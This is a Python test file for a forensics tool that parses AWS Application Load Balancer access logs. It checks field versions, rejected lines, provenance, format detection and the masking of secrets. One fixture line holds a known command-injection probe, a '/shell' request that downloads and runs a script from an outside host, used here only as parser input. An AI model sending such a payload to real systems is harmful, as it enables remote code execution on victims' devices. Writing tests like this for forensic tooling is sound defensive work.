"""AWS Application Load Balancer access logs: known values for every rule of forensics.ingest.alb."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import polars as pl

from forensics.ingest.alb import AlbIngestor

ACCOUNT_PATH = "AWSLogs/123456789012/elasticloadbalancing/us-east-1/2023/01/05"
FILE = f"{ACCOUNT_PATH}/123456789012_elasticloadbalancing_us-east-1_app.api-prod.50dc6c495c0c9188_20230105T1645Z_10.0.1.17_2et2e1mx.log.gz"

#: A current (33-field) line, fields joined so each one can be read against the AWS field list.
CURRENT = " ".join(
    [
        "h2",  # type
        "2023-01-05T16:40:12.123456Z",  # time (response) → ts
        "app/api-prod/50dc6c495c0c9188",  # elb → observer
        "10.1.2.3:51234",  # client:port (a private proxy in front is still the client: ALB logs no XFF)
        "10.0.1.23:8080",  # target:port
        "0.001 0.045 0.002",  # request / target / response processing time
        "200 200",  # elb / target status
        "512 1873",  # received / sent bytes
        '"GET https://api.example.com:443/api/v1/customers/1234?fields=name,email HTTP/2.0"',
        '"okhttp/4.9.3"',
        "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2",
        "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/api/73e2d6bc24d8a067",
        '"Root=1-63b6fd1c-6f1d2e3a4b5c6d7e8f901234"',  # trace_id → request_id
        '"api.example.com"',  # domain_name (SNI)
        '"arn:aws:acm:us-east-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"',
        "1",  # matched_rule_priority
        "2023-01-05T16:40:12.075000Z",  # request_creation_time
        '"waf,forward"',
        '"-" "-"',  # redirect_url, error_reason
        '"10.0.1.23:8080" "200"',  # target:port_list, target_status_code_list
        '"-" "-"',  # classification, classification_reason
        "TID_1234abcd5678ef90",
        '"-" "-" "-"',  # transformed_host, transformed_uri, request_transform_status
    ]
)


def ts(*a: int) -> datetime:
    return datetime(*a, tzinfo=UTC)


def _line(**over: str) -> str:
    """A 29-field line with some fields replaced (by their field name)."""
    f = {
        "type": "https",
        "time": "2023-01-05T16:40:12.000001Z",
        "elb": "app/api-prod/50dc6c495c0c9188",
        "client": "198.51.100.7:40000",
        "target": "10.0.1.23:8080",
        "timings": "0.000 0.010 0.000",
        "status": "200 200",
        "bytes": "100 200",
        "request": '"GET https://api.example.com:443/a HTTP/1.1"',
        "ua": '"curl/8.0"',
        "rest": '- - arn:tg "Root=1-x" "-" "-" 0 2023-01-05T16:40:11.990000Z "forward" "-" "-" "10.0.1.23:8080" "200" "-" "-"',
    }
    f.update(over)
    return " ".join(f.values())


def test_current_line_has_known_values(ingest_files):
    case = ingest_files({FILE: CURRENT + "\n"})
    row = case.events().row(0, named=True)
    assert row["ts"] == ts(2023, 1, 5, 16, 40, 12, 123456)
    assert row["source_format"] == "alb"
    assert row["observer"] == "app/api-prod/50dc6c495c0c9188"
    assert row["source_file"] == f"evidence/{FILE}" and row["source_line"] == 1
    assert (row["client_ip"], row["client_port"], row["peer_ip"]) == ("10.1.2.3", 51234, None)
    assert (row["method"], row["scheme"], row["host"]) == ("GET", "https", "api.example.com")
    assert (row["path"], row["query"], row["protocol"]) == (
        "/api/v1/customers/1234",
        "fields=name,email",
        "HTTP/2.0",
    )
    assert row["endpoint"] == "/api/v1/customers/{id}"
    assert row["request"] is None
    assert (row["status"], row["bytes_in"], row["bytes_out"]) == (200, 512, 1873)
    assert row["duration_ms"] == 48.0  # (0.001 + 0.045 + 0.002) s
    assert row["user_agent"] == "okhttp/4.9.3"
    assert row["request_id"] == "Root=1-63b6fd1c-6f1d2e3a4b5c6d7e8f901234"
    extra = json.loads(row["extra"])
    assert extra["type"] == "h2" and extra["port"] == 443
    assert extra["target"] == "10.0.1.23:8080" and extra["target_status_code"] == "200"
    assert extra["target_processing_time"] == 0.045
    assert extra["actions_executed"] == "waf,forward" and extra["domain_name"] == "api.example.com"
    assert extra["ssl_protocol"] == "TLSv1.2" and extra["conn_trace_id"] == "TID_1234abcd5678ef90"
    assert extra["request_creation_time"] == "2023-01-05T16:40:12.075000Z"
    assert "classification" not in extra  # written only by lines that have one
    entry = case.entry(FILE.rsplit("/", 1)[-1])
    assert entry["format"] == "alb" and entry["lines_read"] == entry["rows"] == 1


def test_every_field_version_reads_and_extra_fields_are_ignored(ingest_files):
    fields = CURRENT.split(" ")
    full = _line()
    versions = {
        "v17": _line(rest="- - arn:tg"),
        "v25": _line(
            rest='- - arn:tg "Root=1-x" "-" "-" 0 2023-01-05T16:40:11.990000Z "forward" "-" "LambdaUnhandled"'
        ),
        # 26-27 unquoted in old examples
        "v27": _line(
            rest='- - arn:tg "Root=1-x" "-" "-" 0 2023-01-05T16:40:11.990000Z "forward" "-" "-" 10.0.0.9:80 502'
        ),
        "v29": full,
        "v33": CURRENT,
        "v35": CURRENT + ' "future" 42',
    }
    assert len(fields) > 33
    text = "".join(v + "\n" for v in versions.values())
    case = ingest_files({"alb/access.log": text})
    ev = case.events()
    assert ev.height == len(versions) and case.rejects().height == 0
    extras = [json.loads(x) for x in ev.get_column("extra").to_list()]
    assert extras[1]["error_reason"] == "LambdaUnhandled"
    assert extras[2]["target_port_list"] == "10.0.0.9:80" and extras[2]["target_status_code_list"] == "502"
    assert ev.get_column("client_ip").to_list() == ["198.51.100.7"] * 4 + ["10.1.2.3"] * 2


def test_uri_with_space_malformed_request_and_not_recorded_values(ingest_files):
    lines = [
        _line(request='"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws;sh HTTP/1.1"'),
        # ALB writes this for a request it could not read: still an event, the raw text kept
        _line(request='"- http://internal-service-alb.example.com:80-/ "', ua='"-"'),
        _line(target="-", timings="-1 -1 -1", status="460 -", bytes="0 0"),
        _line(client="[2001:db8::7]:443"),
        _line(client="2001:db8::8:4444"),  # bare IPv6: split on the last colon
        _line(request='"GET https://api.example.com:443/a%20b?x=\\x22y HTTP/1.1"'),
    ]
    ev = ingest_files({"alb.log": "".join(ln + "\n" for ln in lines)}).events()
    rows = ev.to_dicts()
    assert (rows[0]["path"], rows[0]["query"]) == ("/shell", "cd+/tmp;wget+ a.tk/jaws;sh")
    assert (rows[0]["host"], rows[0]["protocol"]) == ("127.0.0.1", "HTTP/1.1")
    assert rows[1]["request"] == "- http://internal-service-alb.example.com:80-/ "
    assert rows[1]["method"] is None and rows[1]["path"] is None and rows[1]["user_agent"] is None
    assert rows[2]["duration_ms"] is None and rows[2]["status"] == 460
    extra = json.loads(rows[2]["extra"])
    assert (
        extra["target"] is None
        and extra["target_status_code"] is None
        and extra["target_processing_time"] is None
    )
    assert (rows[3]["client_ip"], rows[3]["client_port"]) == ("2001:db8::7", 443)
    assert (rows[4]["client_ip"], rows[4]["client_port"]) == ("2001:db8::8", 4444)
    # ALB escapes a quote in the request as \x22 (nginx style): undone like nginx's
    assert rows[5]["query"] == 'x="y' and rows[5]["path"] == "/a%20b"


def test_nlb_connection_log_and_malformed_lines_are_rejects_with_reasons(ingest_files):
    nlb = (
        "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd "
        "192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/x - "
        "ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30"
    )
    conn = (
        '2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=x" '
        "NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success"
    )
    truncated = _line()[:150]  # cut inside the quoted request
    short = "https 2023-01-05T16:40:12.000001Z app/x/1 198.51.100.7:1 - 0.0 0.0 0.0 200 200 1 2"
    bad_ts = _line(time="2023-13-45T99:99:99.0Z")
    lines = [_line(), nlb, conn, truncated, _line(), short, bad_ts, "", _line()]
    case = ingest_files({"mixed.log": "".join(ln + "\n" for ln in lines)})
    entry = case.entry("mixed.log")
    assert entry["lines_read"] == 9 and entry["rows"] == 3 and entry["rejected"] == 6
    assert entry["rows"] + entry["rejected"] == entry["lines_read"]
    assert case.reasons_by_line() == {
        2: "NLB access-log line, not ALB",
        3: "ALB connection-log line",
        4: "truncated line: a quoted field is never closed",
        6: "truncated line: fewer than 17 fields",
        7: "unparseable timestamp",
        8: "blank line",
    }
    assert case.events().get_column("source_line").to_list() == [1, 5, 9]


def test_many_small_files_keep_their_own_provenance(ingest_files):
    files = {}
    for i in range(30):
        name = FILE.replace("2et2e1mx", f"r{i:07d}")
        elb = f"app/lb{i % 3}/50dc6c495c0c918{i % 3}"
        files[name] = "".join(_line(elb=elb, client=f"198.51.100.{i}:{1000 + j}") + "\n" for j in range(4))
    case = ingest_files(files)
    ev = case.events()
    assert ev.height == 120
    per_file = ev.group_by(pl.col("source_file").cast(pl.String)).agg(
        pl.col("client_ip").unique(),
        pl.col("observer").cast(pl.String).unique(),
        pl.col("source_line").sort(),
    )
    for src, ips, obs, lines in per_file.iter_rows():
        i = int(src.rsplit("_r", 1)[1][:7])
        assert ips == [f"198.51.100.{i}"] and obs == [f"app/lb{i % 3}/50dc6c495c0c918{i % 3}"]
        assert lines == [1, 2, 3, 4]


def test_sniff_claims_alb_and_its_tree_but_not_classic_elb():
    ing = AlbIngestor()
    found = ing.sniff([CURRENT], FILE)
    assert found is not None and found.confidence >= 0.95
    nlb_only = ing.sniff(
        ["tls 2.0 2018-12-20T02:59:40 net/x/1 l 1.2.3.4:1 10.0.0.1:80 5 2 98 246 - - - - - - - - - - -"],
        "x.log",
    )
    assert nlb_only is not None and nlb_only.confidence < 0.6  # claimed, to be rejected by name
    clb = '2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -'
    assert ing.sniff([clb], "x.log") is None


def test_client_text_in_extra_is_masked_by_the_parser(ingest_files):
    """ALB masks its own extra field by field: the redirect URL and rewritten URI repeat the client's
    query, so a credential there becomes a fingerprint; AWS's own values stay as logged."""
    from forensics.secrets import fingerprint

    secret = "s3cr3t-alb-planted-77"
    rest = (
        f'- - arn:tg "Root=1-x" "api.example.com" "-" 0 2023-01-05T16:40:11.990000Z "redirect" '
        f'"https://new.example.com/a?token={secret}" "-" "10.0.1.23:8080" "301" "-" "-" TID_1 '
        f'"new.example.com" "/a?api_key={secret}" "TRANSFORMED"'
    )
    case = ingest_files({FILE: _line(rest=rest) + "\n"})
    extra = json.loads(case.events().row(0, named=True)["extra"])
    assert extra["redirect_url"] == f"https://new.example.com/a?token={fingerprint(secret)}"
    assert extra["transformed_uri"] == f"/a?api_key={fingerprint(secret)}"
    assert extra["transformed_host"] == "new.example.com" and extra["domain_name"] == "api.example.com"
    assert extra["actions_executed"] == "redirect" and extra["conn_trace_id"] == "TID_1"
    assert secret not in str(case.events().rows())


def test_a_first_line_with_fields_aws_may_add_later_is_read(ingest_files):
    """The CSV reader sizes its rows on the first line: one new trailing field there used to fail the
    whole batch (every file in it) with a SchemaError."""
    newer = CURRENT + ' "new-field" "and-another"'
    other = f"{ACCOUNT_PATH}/123456789012_elasticloadbalancing_us-east-1_app.api-prod.50dc6c495c0c9188_20230105T1650Z_10.0.1.17_x.log.gz"
    case = ingest_files(
        {
            FILE: newer + "\n" + CURRENT + "\n",
            other: CURRENT.replace("16:40:12.123456", "16:41:00.000001") + "\n",
        }
    )
    assert case.entry(FILE.rsplit("/", 1)[-1])["rows"] == 2
    assert case.entry(other.rsplit("/", 1)[-1])["rows"] == 1
    assert case.events().get_column("status").to_list() == [200, 200, 200]
